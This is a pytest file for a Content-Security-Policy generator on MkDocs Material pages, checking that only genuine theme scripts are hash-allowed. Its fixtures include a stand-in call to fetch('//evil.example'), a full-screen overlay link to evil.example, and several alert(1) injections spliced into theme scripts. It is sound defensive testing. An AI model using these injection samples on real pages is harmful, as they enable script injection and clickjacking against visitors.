"""builder/publish/csp.py: a policy that lets exactly the theme's own code run."""

import base64
import hashlib
import re
from pathlib import Path

import material
import pytest

from builder.publish.csp import apply_csp, is_theme_script, policy, source_hash

JAVASCRIPTS = Path(material.__file__).parent / "templates" / "partials" / "javascripts"


def theme_script(name: str, base_url: str = ".") -> str:
    """The inline script of one of Material's partials, rendered as MkDocs renders it."""
    text = (JAVASCRIPTS / name).read_text()
    script = re.findall(r"<script>(.*?)</script>", text, re.DOTALL)[-1]
    return re.sub(r"\{\{.*?\}\}", base_url, script)


SCOPE = theme_script("base.html", "../..")
TARGET = theme_script("content.html")

MATERIAL_LIKE = f"""<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width">
    <title>T</title>
    <link rel="stylesheet" href="assets/main.css">
    <script>{SCOPE}</script>
    <style>:root{{--md-text-font:"Roboto";--md-code-font:"Roboto Mono"}}</style>
    <style>.x{{color:red}}</style>
  </head>
  <body>
    <article class="md-content__inner md-typeset">
      <p style="color: &quot;blue&quot;">Hi</p>
      <table><tr><td style="text-align: right;">1</td></tr></table>
      <article><script>smuggled()</script></article>
      <script>alsoSmuggled()</script>
    </article>
    <script>{TARGET}</script>
    <script>__md_scope=new URL(".",location);fetch("//evil.example")</script>
    <script id="__config" type="application/json">{{"base": "."}}</script>
    <script src="assets/bundle.js"></script>
  </body>
</html>
"""


def sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def directives(html: str) -> dict[str, list[str]]:
    content = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1)
    content = content.replace("&quot;", '"').replace("&amp;", "&")
    return {d.split()[0]: d.split()[1:] for d in content.split("; ")}


def test_theme_scripts_are_allowed_by_hash_and_nothing_else_inline() -> None:
    found = directives(apply_csp(MATERIAL_LIKE))
    theme = [sha(SCOPE), sha(TARGET)]
    assert found["script-src"] == ["'self'", *sorted(theme)]
    assert found["default-src"] == ["'self'"]
    assert found["object-src"] == ["'none'"]
    assert found["img-src"] == ["'self'", "data:"]


def test_scripts_in_the_page_content_and_data_scripts_get_no_hash() -> None:
    text = policy(MATERIAL_LIKE)
    assert sha("smuggled()") not in text
    assert sha("alsoSmuggled()") not in text
    assert sha('{"base": "."}') not in text


def test_only_allow_listed_styles_are_hashed() -> None:
    found = directives(apply_csp(MATERIAL_LIKE))
    assert found["style-src"] == [
        "'self'",
        sha(':root{--md-text-font:"Roboto";--md-code-font:"Roboto Mono"}'),
        "'unsafe-hashes'",
        sha("text-align: right;"),
    ]
    without = MATERIAL_LIKE.replace(' style="text-align: right;"', "")
    assert "'unsafe-hashes'" not in directives(apply_csp(without))["style-src"]


def test_a_crafted_overlay_style_is_never_hashed() -> None:
    overlay = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9"
    page = MATERIAL_LIKE.replace(
        "<p style=", f'<a href="https://evil.example" style="{overlay}">x</a><p style='
    )
    page = page.replace("<body>", f'<body><div style="{overlay}"></div>')
    assert sha(overlay) not in policy(page)


@pytest.mark.parametrize(
    "script",
    [
        '__md_scope=new URL(".",location);fetch("//evil.example")',
        SCOPE.replace('"../.."', '"x",alert(1),"'),
        SCOPE + ";alert(1)",
        "alert(1);" + TARGET,
    ],
)
def test_a_script_that_only_resembles_the_theme_is_not_hashed(script: str) -> None:
    assert not is_theme_script(script)
    page = f"<html><head><script>{script}</script></head><body></body></html>"
    assert directives(apply_csp(page))["script-src"] == ["'self'"]


def test_every_theme_script_is_recognised_at_any_base_url() -> None:
    for base in (".", "..", "../../..", "/portfolio/"):
        assert is_theme_script(theme_script("base.html", base))
    for name in ("palette.html", "content.html", "announce.html", "consent.html"):
        assert is_theme_script(theme_script(name))


def test_no_unsafe_keyword_and_no_other_origin() -> None:
    text = policy(MATERIAL_LIKE)
    assert "unsafe-inline" not in text and "unsafe-eval" not in text
    sources = {s for part in text.split("; ") for s in part.split()[1:]}
    allowed = {"'self'", "'none'", "data:", "'unsafe-hashes'"}
    assert all(s in allowed or s.startswith("'sha256-") for s in sources), sources


def test_meta_comes_right_after_charset_before_any_script() -> None:
    out = apply_csp(MATERIAL_LIKE)
    head = out.index("<head>")
    meta = out.index('http-equiv="Content-Security-Policy"')
    assert out.index('<meta charset="utf-8">') < meta < out.index("<script")
    assert head < meta


def test_without_charset_the_meta_opens_the_head() -> None:
    out = apply_csp("<html><head><script>a()</script></head><body></body></html>")
    assert out.startswith('<html><head><meta http-equiv="Content-Security-Policy"')


def test_applying_twice_changes_nothing_and_replaces_an_old_policy() -> None:
    once = apply_csp(MATERIAL_LIKE)
    assert apply_csp(once) == once
    assert once.count("Content-Security-Policy") == 1
    stale = MATERIAL_LIKE.replace(
        "<title>", '<meta http-equiv="content-security-policy" content="default-src *"><title>'
    )
    assert apply_csp(stale) == once


@pytest.mark.parametrize("newline", ["\r\n", "\r"])
def test_hashes_use_the_browser_newline_normalisation(newline: str) -> None:
    assert source_hash(f"a(){newline}b()") == sha("a()\nb()")


def test_text_that_only_looks_like_a_script_is_not_hashed() -> None:
    page = "<html><head></head><body><p>&lt;script&gt;evil()&lt;/script&gt;</p></body></html>"
    assert directives(apply_csp(page))["script-src"] == ["'self'"]
